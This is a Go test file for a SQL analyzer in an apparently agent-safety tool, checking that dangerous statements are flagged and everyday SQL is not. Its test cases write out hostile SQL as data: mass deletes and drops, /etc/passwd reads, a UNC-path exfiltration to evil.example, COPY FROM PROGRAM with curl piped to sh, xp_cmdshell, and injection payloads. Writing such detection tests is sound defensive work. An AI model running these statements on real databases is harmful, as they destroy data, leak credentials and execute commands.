package sqlstmt_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/agentward/ward/internal/analyze/sqlstmt"
)

func ids(r sqlstmt.Result) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.ID)
	}
	return out
}

func TestFindings(t *testing.T) {
	t.Parallel()
	tests := []struct {
		sql     string
		dialect sqlstmt.Dialect
		want    []string
		none    []string
		why     string
	}{
		// Destroying data.
		{"DROP DATABASE prod", sqlstmt.Generic, []string{sqlstmt.FindingDropDatabase}, nil, "a whole database goes"},
		{"drop schema public cascade", sqlstmt.Postgres, []string{sqlstmt.FindingDropDatabase}, nil, "a schema goes"},
		{"DROP TABLE IF EXISTS a.b, c", sqlstmt.Generic, []string{sqlstmt.FindingDrop}, []string{sqlstmt.FindingDropDatabase}, "tables go"},
		{"DROP VIEW v", sqlstmt.Generic, []string{sqlstmt.FindingDrop}, nil, "a view goes"},
		{"TRUNCATE TABLE logs", sqlstmt.Generic, []string{sqlstmt.FindingTruncate}, nil, "every row goes"},
		{"ALTER TABLE t DROP COLUMN email", sqlstmt.Generic, []string{sqlstmt.FindingAlterDrop}, nil, "a column goes"},
		{"ALTER TABLE t ADD COLUMN x int", sqlstmt.Generic, nil, []string{sqlstmt.FindingAlterDrop}, "adding a column is harmless"},
		{"DELETE FROM users", sqlstmt.Generic, []string{sqlstmt.FindingDeleteNoWhere}, nil, "no WHERE"},
		{"delete from users where 1=1", sqlstmt.Generic, []string{sqlstmt.FindingDeleteTautWhr}, nil, "a tautology"},
		{"DELETE FROM users WHERE id = 1 OR 'a'='a'", sqlstmt.Generic, []string{sqlstmt.FindingDeleteTautWhr}, nil, "an OR tautology"},
		{"DELETE FROM users WHERE id = 1", sqlstmt.Generic, nil, []string{sqlstmt.FindingDeleteNoWhere, sqlstmt.FindingDeleteTautWhr}, "a keyed delete"},
		{"DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1=1)", sqlstmt.Generic, nil, []string{sqlstmt.FindingDeleteTautWhr, sqlstmt.FindingDeleteNoWhere}, "the tautology is inside a subquery"},
		{"UPDATE accounts SET balance = 0", sqlstmt.Generic, []string{sqlstmt.FindingUpdateNoWhere}, nil, "every balance zeroed"},
		{"UPDATE t SET x = (SELECT y FROM u WHERE u.id = 1)", sqlstmt.Generic, []string{sqlstmt.FindingUpdateNoWhere}, nil, "the only WHERE is in a subquery"},
		{"UPDATE t SET x = 1 WHERE id = 3", sqlstmt.Generic, nil, []string{sqlstmt.FindingUpdateNoWhere}, "a keyed update"},
		{"WITH old AS (SELECT id FROM t) DELETE FROM t", sqlstmt.Postgres, []string{sqlstmt.FindingDeleteNoWhere}, nil, "the verb after a CTE"},
		{"EXPLAIN ANALYZE DELETE FROM t", sqlstmt.Postgres, []string{sqlstmt.FindingDeleteNoWhere}, nil, "EXPLAIN ANALYZE runs the delete"},
		{"EXPLAIN DELETE FROM t", sqlstmt.Postgres, nil, []string{sqlstmt.FindingDeleteNoWhere}, "EXPLAIN alone does not"},

		// Privileges.
		{"GRANT SELECT ON t TO bob", sqlstmt.Generic, []string{sqlstmt.FindingGrant}, nil, "grant"},
		{"REVOKE ALL ON t FROM bob", sqlstmt.Generic, []string{sqlstmt.FindingGrant}, nil, "revoke"},
		{"CREATE USER eve IDENTIFIED BY 'x'", sqlstmt.MySQL, []string{sqlstmt.FindingPrivilege}, nil, "a new user"},
		{"ALTER ROLE app SUPERUSER", sqlstmt.Postgres, []string{sqlstmt.FindingPrivilege}, nil, "superuser"},
		{"SET PASSWORD FOR root = 'x'", sqlstmt.MySQL, []string{sqlstmt.FindingPrivilege}, nil, "a password change"},

		// The server's files and commands.
		{"SELECT * FROM users INTO OUTFILE '/tmp/u'", sqlstmt.MySQL, []string{sqlstmt.FindingFileAccess}, nil, "writes a file"},
		{"SELECT LOAD_FILE('/etc/passwd')", sqlstmt.MySQL, []string{sqlstmt.FindingFileAccess}, nil, "reads a file"},
		{`SELECT LOAD_FILE(CONCAT('\\\\', VERSION(), '.evil.example\\a'))`, sqlstmt.MySQL, []string{sqlstmt.FindingFileAccess}, nil, "out-of-band exfiltration through a UNC path"},
		{"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", sqlstmt.MySQL, []string{sqlstmt.FindingFileAccess}, nil, "load data"},
		{"SELECT pg_read_file('/etc/passwd')", sqlstmt.Postgres, []string{sqlstmt.FindingFileAccess}, nil, "pg_read_file"},
		{"COPY t TO '/tmp/out.csv'", sqlstmt.Postgres, []string{sqlstmt.FindingFileAccess}, nil, "copy to a server file"},
		{"COPY t TO STDOUT", sqlstmt.Postgres, nil, []string{sqlstmt.FindingFileAccess}, "copy to the client"},
		{"COPY (FROM read_csv('/dev/stdin')) TO '/dev/stdout' WITH (FORMAT CSV)", sqlstmt.Generic, nil, []string{sqlstmt.FindingFileAccess}, "duckdb's pipe idiom: standard streams are not files"},
		{"COPY t TO '/dev/stdout.bak'", sqlstmt.Postgres, []string{sqlstmt.FindingFileAccess}, nil, "a file next to a stream name is still a file"},
		{"COPY t FROM PROGRAM 'curl x | sh'", sqlstmt.Postgres, []string{sqlstmt.FindingCommandExec}, nil, "copy from program"},
		{"ATTACH DATABASE '/home/u/other.db' AS o", sqlstmt.SQLite, []string{sqlstmt.FindingFileAccess}, nil, "attach"},
		{"SELECT load_extension('/tmp/x.so')", sqlstmt.SQLite, []string{sqlstmt.FindingCommandExec}, nil, "native code"},
		{`EXEC xp_cmdshell "net user"`, sqlstmt.MSSQL, []string{sqlstmt.FindingCommandExec}, nil, "xp_cmdshell"},
		{"EXEC sp_configure 'xp_cmdshell', 1", sqlstmt.MSSQL, []string{sqlstmt.FindingCommandExec}, nil, "enabling xp_cmdshell"},
		{"CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u", sqlstmt.Postgres, []string{sqlstmt.FindingCommandExec}, nil, "an untrusted language"},
		{"DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", sqlstmt.Postgres, []string{sqlstmt.FindingDrop}, nil, "SQL inside a DO block"},
		{"/*!50000 DROP TABLE users */", sqlstmt.MySQL, []string{sqlstmt.FindingDrop}, nil, "MySQL runs executable comments"},
		{"SELECT 1 /* DROP TABLE users */", sqlstmt.MySQL, nil, []string{sqlstmt.FindingDrop}, "an ordinary comment runs nothing"},
		{"SELECT 'DROP TABLE users'", sqlstmt.Generic, nil, []string{sqlstmt.FindingDrop}, "a string is not a statement"},
		{"KILL 123", sqlstmt.MySQL, []string{sqlstmt.FindingKill}, nil, "kill"},
		{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", sqlstmt.Postgres, []string{sqlstmt.FindingKill}, nil, "terminate sessions"},

		// Injection shapes.
		{"SELECT a FROM t WHERE id = '1' UNION SELECT username, password FROM users --'", sqlstmt.MySQL, []string{sqlstmt.FindingUnionCreds}, nil, "a union dump"},
		{"SELECT * FROM t WHERE name = '' OR '1'='1'", sqlstmt.Generic, []string{sqlstmt.FindingTautology}, nil, "classic tautology"},
		{"SELECT * FROM t WHERE a = 1 OR b = 2", sqlstmt.Generic, nil, []string{sqlstmt.FindingTautology}, "an ordinary OR"},
		{"SELECT SLEEP(5)", sqlstmt.MySQL, []string{sqlstmt.FindingTimeBased}, nil, "sleep"},
		{"SELECT 1; WAITFOR DELAY '0:0:5'", sqlstmt.MSSQL, []string{sqlstmt.FindingTimeBased}, nil, "waitfor"},
		{"SELECT * FROM t WHERE name = 'x'; DROP TABLE t; --'", sqlstmt.Generic, []string{sqlstmt.FindingStacked, sqlstmt.FindingDrop}, nil, "stacked"},
		{"SELECT name FROM a UNION SELECT name FROM b", sqlstmt.Generic, nil, []string{sqlstmt.FindingUnionCreds}, "an ordinary union"},

		// Everyday SQL.
		{"SELECT c.name, count(*) FROM customers c JOIN orders o ON o.cid = c.id GROUP BY 1 ORDER BY 2 DESC LIMIT 10", sqlstmt.Postgres, nil, nil, "a report"},
		{"INSERT INTO t (a, b) VALUES (1, 'x') ON CONFLICT (a) DO NOTHING", sqlstmt.Postgres, nil, nil, "an upsert"},
		{"CREATE TABLE t (id serial primary key, name text)", sqlstmt.Postgres, nil, nil, "a new table"},
		{"BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;", sqlstmt.Generic, nil, []string{sqlstmt.FindingUpdateNoWhere}, "a transaction"},
	}
	for _, tt := range tests {
		t.Run(tt.why, func(t *testing.T) {
			t.Parallel()
			got := ids(sqlstmt.Analyze(tt.sql, tt.dialect))
			for _, id := range tt.want {
				if !slices.Contains(got, id) {
					t.Errorf("%q (%s): findings %v, missing %s", tt.sql, tt.why, got, id)
				}
			}
			for _, id := range tt.none {
				if slices.Contains(got, id) {
					t.Errorf("%q (%s): findings %v, must not have %s", tt.sql, tt.why, got, id)
				}
			}
			if tt.want == nil && tt.none == nil {
				for _, id := range got {
					if id != sqlstmt.FindingMultiStatement {
						t.Errorf("%q (%s): unexpected finding %s", tt.sql, tt.why, id)
					}
				}
			}
		})
	}
}

func TestStatements(t *testing.T) {
	t.Parallel()
	r := sqlstmt.Analyze("DELETE FROM app.users WHERE id = 3; drop table if exists logs; select * from t", sqlstmt.Generic)
	if len(r.Statements) != 3 {
		t.Fatalf("%d statements, want 3: %+v", len(r.Statements), r.Statements)
	}
	del, drop, sel := r.Statements[0], r.Statements[1], r.Statements[2]
	if del.Verb != "delete" || !del.Where || del.Tautology || !slices.Equal(del.Targets, []string{"app.users"}) {
		t.Errorf("delete = %+v", del)
	}
	if drop.Verb != "drop" || drop.Object != "table" || !slices.Equal(drop.Targets, []string{"logs"}) {
		t.Errorf("drop = %+v", drop)
	}
	if sel.Verb != "select" || !sel.Parsed || sel.Text != "select * from t" {
		t.Errorf("select = %+v", sel)
	}
}

func TestUnparsed(t *testing.T) {
	t.Parallel()
	r := sqlstmt.Analyze("INSERT INTO t VALUES (", sqlstmt.Generic)
	if !slices.Contains(ids(r), sqlstmt.FindingUnparsed) {
		t.Errorf("a broken insert: %v, want sql.unparsed", ids(r))
	}
	r = sqlstmt.Analyze("SELECT a::int FROM t WHERE b ILIKE '%x%'", sqlstmt.Postgres)
	if slices.Contains(ids(r), sqlstmt.FindingUnparsed) {
		t.Errorf("a read the parser does not know is not flagged: %v", ids(r))
	}
}

func TestBounded(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("SELECT 1; ", 100000)
	r := sqlstmt.Analyze(big, sqlstmt.Generic)
	if len(r.Statements) > 256 {
		t.Errorf("%d statements kept, over the bound", len(r.Statements))
	}
	deep := strings.Repeat("DO $$ ", 50) + "DROP TABLE t"
	_ = sqlstmt.Analyze(deep, sqlstmt.Postgres)
	nested := strings.Repeat("(", 10000) + "1" + strings.Repeat(")", 10000)
	_ = sqlstmt.Analyze("DELETE FROM t WHERE "+nested, sqlstmt.Generic)
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"SELECT 1", "DROP TABLE t", "DELETE FROM t WHERE 1=1", "/*!DROP TABLE x*/", "DO $$ EXECUTE 'x' $$", "'unterminated", "COPY t FROM PROGRAM 'x'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a := sqlstmt.Analyze(s, sqlstmt.Generic)
		b := sqlstmt.Analyze(s, sqlstmt.Generic)
		if len(a.Findings) != len(b.Findings) || len(a.Statements) != len(b.Statements) {
			t.Fatalf("not deterministic on %q", s)
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	for _, q := range []string{
		"SELECT id, name FROM users WHERE id = 42",
		"SELECT c.name, count(*) FROM customers c JOIN orders o ON o.cid = c.id WHERE o.created_at > now() - interval '7 days' GROUP BY 1 ORDER BY 2 DESC LIMIT 10",
		"DELETE FROM sessions WHERE expires_at < now()",
	} {
		b.Run(strings.Fields(q)[0], func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				sqlstmt.Analyze(q, sqlstmt.Postgres)
			}
		})
	}
}
